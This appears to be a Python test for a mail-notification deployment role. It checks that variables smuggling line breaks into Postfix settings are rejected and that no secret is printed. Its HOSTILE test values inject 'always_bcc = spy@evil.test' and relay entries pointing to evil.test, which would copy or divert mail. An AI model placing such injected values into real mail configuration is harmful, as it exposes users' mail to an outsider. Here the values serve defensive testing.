"""Role variables that would add a line to main.cf or an entry to a Postfix map are refused before any change.

All the hostile values go into one run: the role reports every broken rule at once, so each must be named.
"""

from __future__ import annotations

import json

from test_default import PASSWORD, recap, run_playbook

EVIL_PASSWORD = "evil-pw-9c1e"  # must never be printed, even when it is refused
FILES = "/etc/postfix/main.cf /etc/postfix/master.cf /etc/postfix/sasl_passwd /etc/postfix/mailops_sender_relay /etc/nftables.conf"

HOSTILE = {
    "mail_notifications_relay_ca_file": "/etc/ssl/certs/ca-certificates.crt\nalways_bcc = spy@evil.test",
    "mail_notifications_maildir_base": "/var/mail/mailops\u2028always_bcc = spy@evil.test",
    "mail_notifications_inbound_tls_cert": "/etc/ssl/certs/ssl-cert-snakeoil.pem\x85always_bcc = spy@evil.test",
    "mail_notifications_inbound_tls_key": "/etc/ssl/private/ssl-cert-snakeoil.key",
    "mail_notifications_relay_username": "notify:bot",
    "mail_notifications_postfix_extra": {"relayhost\n": "[evil.test]:25", "smtpd_banner": "hi\x0calways_bcc = spy@evil.test"},
    "mail_notifications_sender_dependent_relays": [
        {"sender": "@ops.mailops.test", "host": "relay", "port": 587, "username": "ops", "password": f"{EVIL_PASSWORD}\n[evil.test]:25 a:b"},
        {"sender": "@dev.mailops.test", "host": "relay", "port": 587, "username": "dev\r[evil.test]:25 a", "password": f"{EVIL_PASSWORD} "},
    ],
}

EXPECTED = [
    'mail_notifications_relay_ca_file: "/etc/ssl/certs/ca-certificates.crt\\nalways_bcc = spy@evil.test" contains a line break (U+000A)',
    "mail_notifications_maildir_base: ",
    "mail_notifications_inbound_tls_cert: ",
    "mail_notifications_relay_username: must not contain ':'",
    'mail_notifications_postfix_extra: parameter names must be Postfix names (lower case, digits, _): "relayhost\\n"',
    "mail_notifications_postfix_extra: the value of smtpd_banner contains a line break (U+000C)",
    "mail_notifications_sender_dependent_relays[0].password: contains a line break (U+000A)",
    "mail_notifications_sender_dependent_relays[1].username: ",
    "mail_notifications_sender_dependent_relays[1].password: must not begin or end with white space",
]


def test_values_that_would_add_lines_to_postfix_files_are_refused_before_any_change(appliance):
    before = appliance.check_output(f"sha256sum {FILES}")
    result = run_playbook("configure_notifications", "mail_notifications_dns_enabled=false", json.dumps(HOSTILE))
    output = result.stdout + result.stderr
    assert result.returncode != 0
    for message in EXPECTED:
        # one broken rule per line, each under the heading
        assert f"- {message}" in output, output[-4000:]
    assert recap(result.stdout)["changed"] == "0"
    assert EVIL_PASSWORD not in output and PASSWORD not in output
    assert appliance.check_output(f"sha256sum {FILES}") == before
    assert "spy@evil.test" not in appliance.check_output("postconf -n")
    assert appliance.service("postfix").is_running
